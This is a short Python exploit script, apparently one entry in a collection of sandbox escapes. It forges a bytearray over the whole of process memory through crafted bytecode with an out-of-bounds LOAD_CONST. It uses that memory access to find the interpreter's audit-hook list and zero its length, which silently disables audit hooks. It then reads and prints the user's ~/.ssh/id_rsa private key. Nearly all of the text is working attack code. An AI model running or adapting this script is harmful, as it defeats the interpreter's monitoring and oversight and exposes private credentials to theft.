# The same, to empty the list of hooks that the interpreter keeps.
# damage: credentials
# needs: linux, x86_64, python<3.14
import dis
import os
import struct
import sys
import types

HEADER_OF_BYTES, HEADER_OF_TUPLE, EVERYTHING = 32, 24, 1 << 62


def hook(event, arguments):
    pass


forged = struct.pack("7Q", 1 << 20, id(bytearray), EVERYTHING, EVERYTHING, 0, 0, 0)
pointer = struct.pack("Q", id(forged) + HEADER_OF_BYTES)
beyond = (id(pointer) + HEADER_OF_BYTES - id(hook.__code__.co_consts) - HEADER_OF_TUPLE) // 8
code = [dis.opmap["RESUME"], 0] if "RESUME" in dis.opmap else []
for shift in (24, 16, 8):
    code += [dis.opmap["EXTENDED_ARG"], beyond >> shift & 255]
code += [dis.opmap["LOAD_CONST"], beyond & 255, dis.opmap["RETURN_VALUE"], 0]
reader = hook.__code__.replace(co_code=bytes(code), co_stacksize=4)
memory = types.FunctionType(reader, {})(None, None)

sys.addaudithook(hook)
with open("/proc/self/maps") as file:
    spans = [[int(part, 16) for part in line.split()[0].split("-")] for line in file if " rw-p " in line]


def readable(address):
    return address % 8 == 0 and any(first <= address < last - 64 for first, last in spans)


kind = struct.pack("Q", id(list))
for first, last in spans:
    if last - first <= 1 << 22:
        image = bytes(memory[first:last])
        at = image.find(kind)
        while at >= 8:
            size, items = struct.unpack_from("QQ", image, at + 8) if at + 24 <= len(image) else (0, 0)
            if 0 < size < 10 and readable(items):
                held = struct.unpack(f"{size}Q", memory[items : items + 8 * size])
                if id(hook) in held:
                    memory[first + at + 8 : first + at + 16] = bytes(8)
            at = image.find(kind, at + 8)
with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
    print(file.read())
